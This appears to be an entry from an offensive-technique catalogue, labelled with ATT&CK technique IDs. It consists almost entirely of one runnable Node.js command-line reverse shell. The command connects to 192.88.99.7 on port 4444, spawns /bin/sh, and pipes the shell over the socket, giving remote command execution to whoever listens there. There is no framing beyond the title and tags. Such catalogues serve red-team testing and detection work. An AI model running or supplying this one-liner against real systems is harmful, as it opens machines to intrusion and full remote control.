# title: Node's reverse shell, from the command line
# technique: T1059.007 T1059.004
# needs: node

node -e 'const s = require("net").connect(4444, "192.88.99.7", () => { const sh = require("child_process").spawn("/bin/sh", []); s.pipe(sh.stdin); sh.stdout.pipe(s); sh.on("exit", () => process.exit()); })'
